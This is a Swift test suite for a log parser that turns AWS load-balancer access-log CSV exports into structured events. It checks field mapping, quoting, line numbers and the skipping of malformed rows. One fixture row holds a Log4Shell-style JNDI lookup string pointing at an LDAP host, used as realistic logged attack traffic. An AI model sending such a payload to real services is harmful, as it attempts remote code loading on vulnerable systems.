import Evidence
import Testing

@testable import LogParse

@Suite struct ALBTableTests {
  private static let header =
    #""type","time","elb","client_ip","client_port","target_ip","target_port","request_processing_time","#
    + #""target_processing_time","response_processing_time","elb_status_code","target_status_code","received_bytes","#
    + #""sent_bytes","request_verb","request_url","request_proto","user_agent","trace_id""#
  private static let row =
    #""https","2026-03-11T04:00:00.186641Z","app/web/50dc","203.0.113.66","2817","","","-1","-1","-1","403","-","0","57","#
    + #""GET","https://shop.example:443/a?x=${jndi:ldap://203.0.113.5/a}","HTTP/1.1","curl ""x"", 1","Root=1-58-1d""#

  @Test func rowsAreToldAsTheLogTellsLines() throws {
    let dump = try EventDump("\(Self.header)\n\(Self.row)\n\"https\",\"x\"\n", path: "query.csv")
    #expect(dump.format == "aws.alb.table" && dump.events.count == 1)
    let event = try #require(dump.events.first)
    #expect(event.dataType == "aws:alb:request" && event.time?.description == "2026-03-11T04:00:00.186641Z")
    #expect(event.text("client_ip") == "203.0.113.66" && event.integer("client_port") == 2817)
    #expect(event.text("target_ip") == nil && event.integer("response_code") == 403)
    #expect(event.text("http_method") == "GET" && event.text("uri") == "/a" && event.text("host") == "shop.example")
    #expect(event.text("query") == "x=${jndi:ldap://203.0.113.5/a}" && event.text("http_version") == "HTTP/1.1")
    #expect(event.text("user_agent") == #"curl "x", 1"# && event.text("trace_id") == "1-58-1d")
    #expect(event.locator.line == 2)
    let twice = "\(Self.header)\n\(Self.row)\n"
    #expect(try EventDump(twice + twice, path: "query.csv").events.count == 2)
    #expect(dump.coverages.count { $0.state == .skipped } == 1)
  }

  @Test func columnsInAnotherOrderAndWithOthersBetween() throws {
    let text =
      "request_url,day,elb_status_code,time,client_ip\nhttp://a.example:80/,2026/03/11,200,2026-03-11T04:00:00Z,::1\n"
    let event = try #require(try EventDump(text, path: "query.csv").events.first)
    #expect(event.text("host") == nil || event.text("uri") != nil)
    #expect(event.integer("response_code") == 200)
    // A table that counts them is none.
    let counts = "elb_status_code,requests\n200,17\n"
    #expect(try EventDump(counts, path: "query.csv").format != "aws.alb.table")
  }
}
